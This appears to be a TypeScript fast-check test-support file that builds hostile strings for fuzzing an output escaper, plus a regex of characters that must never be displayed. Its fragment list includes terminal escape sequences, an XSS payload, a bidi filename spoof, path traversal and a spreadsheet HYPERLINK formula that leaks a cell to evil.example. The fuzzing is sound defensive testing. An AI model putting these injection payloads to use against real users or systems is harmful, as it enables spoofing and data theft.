/** Hostile texts: any characters, with control and other active characters among them. */
import fc from "fast-check";
import { runs, seed } from "../support/runs.ts";

export const settings = { numRuns: runs(2000), seed };

/** One of everything that must be escaped. */
export const FRAGMENTS: readonly string[] = [
  "\u001b]8;;https://evil.example/\u0007link\u001b]8;;\u0007",
  "\u001b[2J\u001b[1;1H",
  "\u009b31m",
  "\u0007",
  "\u007f",
  "\0",
  "\b\b\b",
  "\r",
  "\n",
  "\r\n",
  "\t",
  "\v\f",
  "\u0085",
  "\u2028",
  "\u2029",
  "\u202egpj.exe",
  "\u2066\u2069\u061c\u200e",
  "\u200b\u200c\u200d\u2060\ufeff\u00ad",
  "\ufe0f",
  "\u3164\u115f",
  "\u{e0041}\u{e0100}",
  "\ud800",
  "\udc00",
  "😀",
  "é漢\u00a0",
  "</script><img src=x onerror=alert(1)>",
  "<!--",
  "]]>",
  "&lt;",
  "&#0",
  "&amp",
  "&",
  "<",
  ">",
  '"',
  "'",
  "`",
  "\\",
  "\\ud800",
  "\\u001b",
  '=HYPERLINK("https://evil.example/?"&A1)',
  "+1",
  "-1",
  "@SUM(1)",
  "＝1",
  " ",
  ",",
  ";",
  "javascript:",
  "https://",
  "//",
  "/",
  "user:pw@",
  "@",
  "?token=",
  "%3Fkey%3D",
  "%2F%2F",
  "%40",
  "=",
  "authorization: ",
  "../",
  "con",
  "__proto__",
  "example.com",
];

const anyCharacters = fc.oneof(
  fc.string({ unit: "binary", maxLength: 20 }),
  fc.string({ unit: "grapheme", maxLength: 20 }),
  // Also lone surrogates.
  fc
    .array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 8 })
    .map((units) => String.fromCharCode(...units)),
  fc
    .array(fc.integer({ min: 0, max: 0x9f }), { maxLength: 12 })
    .map((units) => String.fromCharCode(...units)),
);

export const hostileText: fc.Arbitrary<string> = fc
  .array(fc.oneof(fc.constantFrom(...FRAGMENTS), anyCharacters), { maxLength: 8 })
  .map((pieces) => pieces.join(""));

/**
 * Characters that must never be shown, listed by hand and not by the Unicode classes of the code under test.
 */
export const NEVER_SHOWN: RegExp = new RegExp(
  [
    "[\\u0000-\\u001f\\u007f-\\u009f]", // C0, DEL, C1
    "[\\u2028\\u2029]", // line and paragraph separator
    "[\\u061c\\u200e\\u200f\\u202a-\\u202e\\u2066-\\u2069]", // bidi
    "[\\u00ad\\u034f\\u115f\\u1160\\u17b4\\u17b5\\u180b-\\u180f\\u200b-\\u200d\\u2060-\\u206f\\u3164\\ufe00-\\ufe0f\\ufeff\\uffa0\\ufff9-\\ufffb]",
    "[\\u{1bca0}-\\u{1bca3}\\u{1d173}-\\u{1d17a}\\u{e0000}-\\u{e0fff}]", // shorthand, music, tags, selectors
    "\\p{Surrogate}",
  ].join("|"),
  "u",
);

/** What an encoder makes of lone surrogates. */
export function wellFormed(text: string): string {
  return text.replace(/\p{Cs}/gu, "\ufffd");
}
